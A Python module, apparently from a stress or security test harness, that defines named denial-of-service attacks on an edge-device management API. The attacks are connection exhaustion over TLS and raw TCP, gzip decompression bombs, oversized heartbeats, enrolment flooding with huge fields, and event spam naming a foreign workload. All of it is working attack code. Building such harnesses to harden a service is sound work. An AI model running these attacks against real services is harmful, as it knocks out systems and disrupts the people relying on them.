"""The attacks by name. Each takes its target and a tally, and goes on until it is cancelled."""

from __future__ import annotations

import gzip
import itertools
import json
import uuid
from collections.abc import Awaitable, Callable
from typing import Any

from attackers.connections import Door, Tally, ask, hold_open
from attackers.target import BASE, Target, make_context

MIB = 2**20
FOREIGN_WORKLOAD = "payroll"  # it exists, and the attacker does not have it
SIZES = (2 * MIB - 1000, 250_000, 60_000)  # bytes of a large heartbeat


async def anonymous_tls(target: Target, tally: Tally) -> None:
    """Hold TLS connections to the resource API without a certificate."""
    door = Door(target.resource_api, target.source, make_context(target.resource_ca))
    await hold_open(door, 1500, tally)


async def silent_tcp(target: Target, tally: Tally) -> None:
    """Hold TCP connections to the Edge API that never begin TLS."""
    await hold_open(Door(target.edge_api, target.source), 1500, tally)


async def idle_device(target: Target, tally: Tally) -> None:
    """Hold TLS connections to the Edge API with one device's certificate."""
    await hold_open(_as_device(target), 1000, tally)


async def compressed_bodies(target: Target, tally: Tally) -> None:
    """Send heartbeats of which a few kilobytes of gzip become megabytes."""
    body = gzip.compress(_message("heartbeat", {"status": "x" * (2 * MIB - 1000)}))
    request = _post(target, body, "Content-Encoding: gzip")
    await ask(_as_device(target), 8, lambda: request, tally)


async def large_heartbeats(target: Target, tally: Tally) -> None:
    """Send heartbeats of 2 MiB, and such as long as a server allows."""
    requests = [_heartbeat(target, status="x" * size) for size in SIZES]
    turns = itertools.cycle(requests)
    await ask(_as_device(target), 8, lambda: next(turns), tally)


async def enrolments(target: Target, tally: Tally) -> None:
    """Enrol one new device after the other, each with many features."""
    door = Door(target.edge_api, target.source, target.context(target.registration))
    content = {
        "features": {"hardware": {"hostname": "h" * 20_000}},
        "public_key_fingerprint": "ab" * 32,
    }

    def build() -> bytes:
        return _post(target, _message("enrolment", content), device_id=f"x-{uuid.uuid4().hex}")

    await ask(door, 8, build, tally)


async def events(target: Target, tally: Tally) -> None:
    """Send heartbeats full of Events: about itself, and about a workload that it does not have."""

    def build() -> bytes:
        return _heartbeat(
            target,
            events=[
                {"reason": "Failed", "message": uuid.uuid4().hex, "type": "warn", "workload": name}
                for name in 25 * (FOREIGN_WORKLOAD, "")
            ],
        )

    await ask(_as_device(target), 4, build, tally)


Attack = Callable[[Target, Tally], Awaitable[None]]
ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        anonymous_tls,
        silent_tcp,
        idle_device,
        compressed_bodies,
        large_heartbeats,
        enrolments,
        events,
    )
}


def _as_device(target: Target) -> Door:
    return Door(target.edge_api, target.source, target.context(target.device))


def _heartbeat(target: Target, **content: Any) -> bytes:
    return _post(target, _message("heartbeat", {"status": "up", "version": "", **content}))


def _message(directive: str, content: Any) -> bytes:
    return json.dumps(
        {
            "type": "data",
            "message_id": str(uuid.uuid4()),
            "version": 1,
            "sent": "2026-01-10T09:00:00Z",
            "directive": directive,
            "content": content,
        }
    ).encode()


def _post(target: Target, body: bytes, *headers: str, device_id: str = "") -> bytes:
    lines = (
        f"POST {BASE}/data/{device_id or target.device_id}/out HTTP/1.1",
        "Host: localhost",
        "Content-Type: application/json",
        f"Content-Length: {len(body)}",
        *headers,
    )
    return "\r\n".join((*lines, "", "")).encode() + body
